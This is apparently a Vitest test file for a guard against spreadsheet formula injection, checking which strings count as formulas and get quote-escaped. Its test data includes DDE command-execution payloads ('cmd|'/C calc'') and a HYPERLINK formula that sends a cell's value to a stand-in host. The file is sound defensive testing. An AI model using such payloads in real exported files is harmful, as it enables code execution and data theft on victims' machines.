import { expect, test } from 'vitest';
import { escapeFormula, isFormula } from './formulas.ts';

test.each([
  "=cmd|'/C calc'!A0",
  '=1+1',
  '=HYPERLINK("http://a.test?x="&A1)',
  "+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝cmd|x',
])('%j is a formula', (text) => {
  expect(isFormula(text)).toBe(true);
  expect(escapeFormula(text)).toBe(`'${text}`);
});

test.each([
  '',
  'a=b',
  '-5',
  '+49 (170) 123-45',
  '-1.5e3',
  '- first point',
  '@name',
  'a@b.test',
  '+',
  '-',
  '--',
  "'=1",
  '1=1',
])('%j is text', (text) => expect(escapeFormula(text)).toBe(text));
